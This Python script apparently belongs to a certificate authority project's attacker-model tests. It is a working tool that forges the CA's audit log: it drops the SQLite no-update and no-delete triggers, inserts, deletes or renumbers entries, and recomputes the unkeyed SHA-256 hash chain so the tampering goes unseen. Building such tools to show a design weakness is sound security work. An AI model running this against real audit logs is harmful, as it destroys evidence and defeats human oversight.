#!/usr/bin/env python3
"""What someone who can write the CA's database but not use the token can do to the audit chain: edit, insert or
append entries and recompute the unkeyed SHA-256 chain (the format of db/audit.c). Reads the audit's rows on stdin
(one JSON array of [seq, ts, actor, action, subject, outcome, detail, hash hex], as attacker_lib.sh's forge reads them from
SQLite or PostgreSQL) and prints the SQL that forges them, for the caller to run with the triggers off; or, given a
SQLite file instead of DIALECT, reads and forges that file itself (its audit triggers dropped).

usage: audit_forge.py DIALECT rechain FROM [TO] recompute prev_hash/hash of entries FROM..TO with plain SHA-256 (TO:
                                                the next entry's prev_hash follows, its own hash is left alone)
       audit_forge.py DIALECT insert SEQ        a forged entry at SEQ (later ones renumbered), chain recomputed
       audit_forge.py DIALECT append            a forged entry after the last, chained with SHA-256
       audit_forge.py DIALECT delete SEQ        entry SEQ deleted, later ones renumbered, chain recomputed
DIALECT: sqlite or postgresql (how a BLOB is written); or the path of a SQLite database (audit_mac.sh).
"""
import hashlib
import json
import sqlite3
import struct
import sys

FORGED = ("officer:mallory", "cert.revoke", "CAM0001", "ok", "forged")


def entry_hash(prev, seq, ts, texts):
    m = prev + struct.pack(">qq", seq, ts)
    for t in texts:
        b = (t or "").encode()
        m += struct.pack(">I", len(b)) + b
    return hashlib.sha256(m).digest()


def forge_sql(dialect, audit, cmd, args):
    """The SQL that forges the chain `audit` (rows as read on stdin) by cmd, args."""
    blob = (lambda b: "X'%s'" % b.hex()) if dialect == "sqlite" else (lambda b: "'\\x%s'::bytea" % b.hex())
    text = lambda t: "'%s'" % t.replace("'", "''")
    # seq -> [ts, actor, action, subject, outcome, detail, hash], as the statements below leave the table
    rows = {r[0]: r[1:7] + [bytes.fromhex(r[7])] for r in audit}
    out = []

    def renumber(start, by):  # seq >= start moves by `by`, through negative seqs (no key collides on the way)
        out.append("UPDATE audit SET seq = -(seq + %d) WHERE seq >= %d;" % (by, start))
        out.append("UPDATE audit SET seq = -seq WHERE seq < 0;")
        moved = {s: r for s, r in rows.items() if s >= start}
        for s in moved:
            del rows[s]
        rows.update({s + by: r for s, r in moved.items()})

    def insert(seq, ts):
        rows[seq] = [ts, *FORGED, bytes(32)]
        out.append("INSERT INTO audit (seq, ts, actor, action, subject, outcome, detail, prev_hash, hash) VALUES (%d, %d, %s, %s, %s);"
                   % (seq, ts, ", ".join(map(text, FORGED)), blob(bytes(32)), blob(bytes(32))))

    def rechain(start, end=None):
        prev = rows[start - 1][6] if start > 1 else bytes(32)
        for s in sorted(s for s in rows if start <= s <= (end or 2**62)):
            h = entry_hash(prev, s, rows[s][0], rows[s][1:6])
            out.append("UPDATE audit SET prev_hash = %s, hash = %s WHERE seq = %d;" % (blob(prev), blob(h), s))
            rows[s][6] = prev = h
        if end:
            out.append("UPDATE audit SET prev_hash = %s WHERE seq = %d;" % (blob(prev), end + 1))

    if cmd == "rechain":
        rechain(*args)
    elif cmd == "insert":
        seq = args[0]
        renumber(seq, 1)
        insert(seq, rows[seq + 1][0])
        rechain(seq)
    elif cmd == "append":
        seq = max(rows) + 1
        insert(seq, max(r[0] for r in rows.values()))
        rechain(seq)
    elif cmd == "delete":
        seq = args[0]
        out.append("DELETE FROM audit WHERE seq = %d;" % seq)
        del rows[seq]
        renumber(seq + 1, -1)
        rechain(seq)
    else:
        sys.exit(__doc__)
    return "\n".join(out)


def main():
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    where, cmd, args = sys.argv[1], sys.argv[2], [int(a) for a in sys.argv[3:]]
    if where in ("sqlite", "postgresql"):
        print(forge_sql(where, json.load(sys.stdin), cmd, args))
        return
    db = sqlite3.connect(where)
    audit = [[*r[:7], r[7].hex()] for r in db.execute("SELECT seq, ts, actor, action, subject, outcome, detail, hash FROM audit")]
    db.executescript("DROP TRIGGER IF EXISTS audit_no_update; DROP TRIGGER IF EXISTS audit_no_delete; BEGIN;\n"
                     + forge_sql("sqlite", audit, cmd, args) + "\nCOMMIT;")


main()
